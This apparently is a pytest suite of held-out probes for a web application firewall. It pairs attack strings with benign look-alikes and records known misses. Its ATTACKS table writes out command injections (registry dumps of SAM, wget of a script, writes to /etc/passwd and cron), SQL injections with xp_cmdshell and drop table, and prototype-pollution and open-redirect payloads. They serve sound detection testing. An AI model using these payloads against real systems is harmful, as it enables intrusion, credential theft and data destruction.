"""WAF, part 2i: held-out probes, seventh file (README: the sixth round),
written for this file on 2026-12-02 BEFORE any rule was changed for them (no string taken
from a corpus or a public list), through the real edge (shipped config,
bans off). Each class is a shape the development corpora's misses
(cmdi, `other`) or the external corpus's false positives name, written
here in other shapes.

Attack classes:
- windows-subcommand: cmd.exe built-ins whose first argument is a
  subcommand of their own (reg query/add/save/delete/export) or whose
  switches make them wait (choice /t), after a separator: the shape of
  "| net user" for the registry and for a delay;
- json-prototype: the constructor.prototype path of prototype pollution
  spelled as nested objects ({"constructor": {"prototype": {...}}}), as a
  JSON body or a JS/YAML-like literal carries it;
- nested-redirect: a scheme-relative URL ("//host") given to any
  parameter of a query string or URL that is itself the value (the link an
  open redirect is abused with), not only to parameters named like a
  redirect (the change reads it on sign-in and sign-out paths only: an
  image proxy's url= takes the same shape, see KNOWN_MISSES).
Look-alikes: prose with "reg" (registration) and "choice", objects with
"constructor" and "prototype" as plain names or values, ordinary links
with query strings.

False-positive classes (look-alikes a public API receives), each with
attacks of the same shape that must stay refused:
- rule-line: a heading's underline or a rule ("-----", "====") is
  markdown, not an argument before a line break: the line after it is a
  line of text ("Usage\\n-----\\nssh connects ...");
- quoted-title: a quoted phrase on a line of its own or after a
  separator ("\\"Curl Recipes\\"") is one word with a space to a shell,
  which no program is called; a quoted command without a space ("id")
  still runs;
- url-line: a URL whose path ends in a command's name is a URL, not a
  program run by its path;
- script-line: a line that runs a project's own script (./configure,
  ./autogen.sh) is a command line, and make after it on the next lines or
  after && is that command line's own chain, as in build instructions; a
  data file's name before a command ("./report.pdf\\nid") is still an
  argument;
- arrow-path: "->" and "=>" are arrows (a symlink listing, a mapping),
  not redirections into a system path;
- paren-path: an account file named in parentheses in a sentence is a
  mention, as it is between spaces;
- option-path: a program's option or a variable set to a directory of
  applications' own files (--libdir=/usr/lib/..., =/usr/share/...) is
  configuration, not an include; the OS's own files, /tmp and bin
  directories after "=" still are;
- backtick-option: a code span around a command-line option
  ("`--with-ssl`"): only MySQL quotes with backticks, and its "--" is a
  comment only before white space;
- mail-domain: an e-mail address whose domain starts like a Java package
  (jane@sun.com) names no class.

Later batches, each written before its change: contractions ("don't")
taken for the quote that closes the one a value opens, SQL's statement
verbs after and/or in English ("drag and drop the file"), tables as
psql prints them ("---+---" delimiter rows, no border at the line's
ends), require called with keyword arguments, catalog names at the end
of hyphenated names ("systemd-sysusers").

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements.

A probe the edge gets wrong is listed in KNOWN_MISSES or
KNOWN_FALSE_POSITIVES with the reason, and runs as a strict xfail: it
fails the suite the day it starts to pass, so the list stays true."""

import pytest

from wafkit import (WafEdge, assert_passes_everywhere,  # noqa: F401
                    assert_refused_everywhere, assert_tables_balanced,
                    no_lua_errors, probe_cases, probe_placements, session,
                    waf_config)

CONF = waf_config()

ATTACKS = {
    "windows-subcommand": [
        "| reg query HKCU\\Environment", "& reg save HKLM\\SAM s.hiv",
        "x7 & reg delete HKCU\\Software\\Run /va /f", "1|reg export HKLM\\Software x.reg",
        "&& choice /t 9 /d n", "; choice /c ab /t 4 /d a",
    ],
    "json-prototype": [
        '{"constructor": {"prototype": {"isAdmin": true}}}',
        "{'constructor':{'prototype':{'role':'admin'}}}",
        '{"a": 1, "constructor": {"prototype": {"b": 2}}}',
        "constructor: {prototype: {polluted: 1}}",
    ],
    "nested-redirect": [
        "?u=//probe.test/a", "/auth?lang=en&back=//probe.test",
        "/sso?continue=//probe.test", "https://app.example/login?then=//probe.test/x",
    ],
    "rule-line": ["x\n---\n;id", "---\n|uname -a", "Usage\n=====\n$(whoami)"],
    "quoted-title": ['x;"id"', "7\n'whoami'", 'a|"uname" -a', "1;'ls' -la /"],
    "url-line": ["x;ftp 203.0.113.7", "7\nwget example.org/x.sh",
                 "https://example.org/\n;curl example.net/a"],
    "script-line": ["./report.pdf\nid", "./a.txt;whoami", "./photo.png && sleep 5"],
    "arrow-path": ["x>/etc/passwd", "1 > /etc/cron.d/job", "a >> /etc/profile"],
    "paren-path": ["x (/etc/shadow)", "cat</etc/passwd", "(/etc/passwd)"],
    "option-path": ["file=/etc/shadow", "x=/tmp/sess_0f3a", "SHELL=/bin/sh",
                    "--conf=/etc/passwd"],
    "backtick-option": ["admin` -- ", "x`) or 1=1#", "admin`--", "a` or `1`=`1` -- x"],
    "mail-domain": ["sun.misc.Unsafe", "java.lang.Runtime",
                    "x=com.sun.rowset.JdbcRowSetImpl"],
    # second batch, written after the first change and before its own
    # (2026-12-02): an apostrophe inside a word ("don't") taken for the
    # quote that closes the one the value opens, and SQL's statement
    # verbs after "and"/"or" in English ("drag and drop the file")
    "contraction": ["' sleep 5 #don't", "' whoami #it's", "' ping -n 3 127.0.0.1"],
    "sql-verb-prose": [
        "' or truncate table users--", "a' and truncate table logs #", "1 or shutdown--",
        "x' and drop table t--", "' or replace(1,1,1)=1--",
        "1' and exec master..xp_cmdshell 'dir'--",
    ],
    # third batch, written before its change (2026-12-02): a table as
    # psql and ASCII tools print it, cells between "|" with no border at
    # the line's ends and a "---+---" delimiter row
    "psql-table": ["x | id", "----+----\n1 |whoami", "a | b\n---+---\n1 | id -u",
                   "----+----\nx ; id"],
    # fourth batch, written before its change (2026-12-02): a call with
    # keyword arguments (Python's, Ruby's) named require, and a database
    # catalog's name as the last part of a hyphenated tool or volume name
    "keyword-call": ["require(mod).exec('id')", "x=require(process.argv[2])",
                     "global.require(p)"],
    "hyphen-name": ["1 union select name from sysusers--",
                    "' and 1=(select count(*) from tempdb..sysobjects)--",
                    "x' or exists(select * from msdb..backupset)--"],
}

BENIGN = {
    "windows-subcommand": [
        "Fees & reg add-ons", "Bring your ID & reg papers to the desk.",
        "Multiple choice / true-false", "Tea or coffee; choice of milk",
        "Name | reg add-on | price",
    ],
    "json-prototype": [
        '{"constructor": "Person", "prototype": false}',
        "The constructor: {} sets up the prototype.",
        '{"name": "constructor", "kind": "prototype"}',
        "A constructor sets the prototype of each new object.",
    ],
    "nested-redirect": [
        "https://example.com/search?q=cats&page=2",
        "Use the ?url=https://example.org form for links",
        "/api/items?tag=a//b", "See //cdn.example.com/lib.js for the bundle",
        "/thumb?w=200&src=//cdn.example.com/a.png",
    ],
    "rule-line": [
        "Grep\n====\ngrep searches files for a pattern.",
        "Usage\n-----\nssh connects to a remote host.",
        "Notes:\n---\ncurl is used for downloads.",
        "Setup\n*****\nnpm installs the packages.",
    ],
    "quoted-title": [
        'Further reading:\n  https://example.org/book\n  "Curl Recipes"',
        '[1]\n"Ssh Mastery", 2nd ed.',
        'v2.1;"Perl Cookbook" notes',
        'Links:\n  <https://example.net/docs>\n  "Make Manual"',
    ],
    "url-line": [
        "https://example.org/tools/\nhttps://mirror.example.net/pub/curl",
        "ftp://ftp.example.org/pub/\nhttp://example.com/dl/wget",
        "Mirrors: a.example;https://b.example/bin/ssh",
    ],
    "script-line": [
        "./configure\nmake\nsudo make install",
        "  ./autogen.sh && ./configure && make",
        "./bootstrap\nmake -j4",
        "Build it with the usual\n./configure && make && make check",
    ],
    "arrow-path": [
        "vi -> /usr/bin/vim.basic", "editor => /usr/bin/nano (the default)",
        "python3 -> /usr/bin/python3.11",
    ],
    "paren-path": [
        "Accounts are kept in two files (/etc/passwd and /etc/group) on Linux.",
        "The hashes live elsewhere (/etc/shadow is readable by root only).",
    ],
    "option-path": [
        "--libdir=/usr/lib/x86_64-linux-gnu",
        "Set PKG_CONFIG_PATH=/usr/share/pkgconfig first.",
        "--datadir=/usr/share/myapp is the default",
    ],
    "backtick-option": [
        "* `--with-ssl`", "- `--no-cache` skips the cache", "Use `--dry-run` first.",
    ],
    "mail-domain": [
        "Contact jane.doe@sun.com for access", "Maintainer: a.b@groovy.dev",
    ],
    "contraction": [
        "'ssh' opens a shell on the server; don't share keys.",
        "'curl' fetches a URL, and it's in every distro.",
    ],
    "sql-verb-prose": [
        "Drag and drop the file, then find and replace the name.",
        "Copy and truncate the log before the backup.",
        "Export and merge the branches, then create and update the tags.",
        "Review or grant the request today.",
    ],
    "psql-table": [
        " id | name\n----+------\n  1 | ps\n  2 | top",
        "name | shell\n-----+------\nann  | bash\nbob  | zsh",
        " pid | command\n-----+---------\n  42 | sshd\n  97 | crontab",
    ],
    "keyword-call": [
        "``require(env=None, installer=None)`` ensures the extras are there.",
        "Call require(strict=True) before loading the plugins.",
    ],
    "hyphen-name": [
        "The packages dh-sysuser and systemd-sysusers offer it.",
        "Use the my-tempdb volume for scratch data.",
    ],
}

# Measured before any rule was changed (2026-12-02): 13 of 41 attacks
# passed (every windows-subcommand, json-prototype and nested-redirect
# probe but one), every attack of the false-positive classes was refused,
# and 24 of 45 look-alikes were refused. After the change (commit after
# the probes'): every attack refused but the one below, every look-alike
# passes. (The image-proxy look-alike of nested-redirect was added with
# the change: the rule it guards was first written for any parameter
# name, which the shipped rule had deliberately not done for "url=".)
KNOWN_MISSES = {
    "?u=//probe.test/a": "a scheme-relative URL given to a parameter of a bare "
                         "query string: nothing tells it from an image proxy's or a "
                         "link preview's source (\"/resize?url=//cdn...\"); only a "
                         "sign-in or sign-out path, or a redirect name, makes it a "
                         "redirect target",
}
# Second batch, measured before its change: 2 of 3 contraction attacks
# passed (every sql-verb-prose attack was refused), 5 of 6 look-alikes
# were refused. After it: all refused, all pass.
# Third batch, before its change: every attack refused, every look-alike
# refused. After it: the attacks refused, the first look-alike passes;
# the other two stay refused for the names in their cells (below).
KNOWN_FALSE_POSITIVES = {
    v: "a distinctive command name alone in a cell (bash is one of the "
       "prose names, zsh and crontab are not) is a command in any table, "
       "markdown's too: test_31_waf_detect_heldout_r6's pipe-cell"
    for v in BENIGN["psql-table"][1:]}
# Fourth batch, before its change: every attack refused, every look-alike
# refused. After it: the attacks refused, the look-alikes pass.


ATTACK_CASES = probe_cases(ATTACKS, KNOWN_MISSES)
BENIGN_CASES = probe_cases(BENIGN, KNOWN_FALSE_POSITIVES)


@pytest.fixture(scope="module")
def edge(tmp_path_factory):
    e = WafEdge(tmp_path_factory.mktemp("waf-heldout-r7"), CONF).start()
    yield e
    e.stop()


def statuses(session, edge, value):
    """query (once and twice URL-encoded) and JSON body."""
    return probe_placements(session, edge, value)


def test_tables_are_balanced():
    # every class has attacks and look-alikes, and none is both
    assert_tables_balanced(ATTACKS, BENIGN)


@pytest.mark.parametrize("cls,value", ATTACK_CASES)
def test_heldout_r7_attack_refused_everywhere(edge, session, cls, value):
    got = statuses(session, edge, value)
    assert_refused_everywhere(got, cls, value)


@pytest.mark.parametrize("cls,value", BENIGN_CASES)
def test_heldout_r7_benign_passes(edge, session, cls, value):
    got = statuses(session, edge, value)
    assert_passes_everywhere(got, cls, value)
